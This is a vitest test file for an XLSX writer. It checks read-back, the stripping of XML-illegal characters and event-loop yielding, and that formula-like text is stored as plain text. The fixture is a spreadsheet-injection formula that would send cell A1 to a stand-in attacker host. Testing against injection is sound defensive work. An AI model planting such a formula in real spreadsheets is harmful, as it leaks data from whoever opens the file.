import { readSheet } from 'read-excel-file/node'
import { describe, expect, it } from 'vitest'
import { readZip, unpack } from '../data/zip.server.ts'
import { writeLongXlsx, writeXlsx } from './xlsx-file.server.ts'

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看这里")'
const rows = [
  ['名称', '说明'],
  [FORMULA, '<b>&"\u0007'],
  ['_x0041_', '第一行\n第二行'],
]

describe('a workbook', () => {
  const file = writeXlsx({ name: '审查结果', widths: [20, 40], rows })

  it('can be read back, without characters that XML cannot represent', async () => {
    const read = await readSheet(file, 1)

    expect(read.slice(0, 2)).toEqual([rows[0], [FORMULA, '<b>&"']])
    expect(read[2]?.[1]).toBe('第一行\n第二行')
  })

  it('contains no formulas: text that begins like one remains text', async () => {
    const sheet = readZip(file, 10).find(({ name }) => name === 'xl/worksheets/sheet1.xml')!
    const xml = String(await unpack(sheet, { left: 100_000 }))

    expect(xml).not.toMatch(/<f[ >]/)
    expect(xml).toContain('t="inlineStr"><is><t xml:space="preserve">=HYPERLINK(&quot;')
    expect(xml).toContain('_x005F_x0041_')
  })
})

describe('a long workbook', () => {
  const many = Array.from({ length: 4000 }, (_, at) => [`第 ${at} 行`, '信用'.repeat(40)])

  it('can be read back', async () => {
    const file = await writeLongXlsx({ name: '记录', widths: [20, 40], parts: [rows.slice(0, 2), many] })
    const read = await readSheet(file, 1)

    expect(read).toHaveLength(4002)
    expect([read[0], read[1], read[4001]]).toEqual([rows[0], [FORMULA, '<b>&"'], many[3999]])
  })

  it('yields to the event loop while it is written', async () => {
    let turns = 0
    let isOver = false
    const count = () => {
      turns += 1
      if (!isOver) setImmediate(count)
    }
    setImmediate(count)

    await writeLongXlsx({ name: '记录', parts: [many] })
    isOver = true

    // Half a megabyte in chunks of 128 kB.
    expect(turns).toBeGreaterThanOrEqual(4)
  })
})
